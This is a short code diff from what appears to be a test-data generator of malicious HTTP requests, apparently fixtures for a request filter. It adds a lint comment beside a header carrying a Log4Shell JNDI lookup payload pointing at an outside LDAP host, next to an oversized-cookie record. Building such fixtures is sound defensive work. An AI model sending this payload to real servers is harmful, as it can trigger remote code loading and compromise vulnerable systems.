@@ -146,6 +146,7 @@ export function attackRecords(): GeneratedRecord[] {
     item('unexpected method', { method: 'DELETE', path: '/api/cart', query: '' }),
   ];
   const unknown = item('unknown header', {});
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a JNDI lookup (Log4Shell) payload, as an attacker sends it
   unknown.headers.push(['X-Api-Override', '${jndi:ldap://203.0.113.99/a}']);
   const cookie = item('huge header value', {});
   cookie.headers.push(['Cookie', `tracking=${'x'.repeat(16 * 1024)}`]);
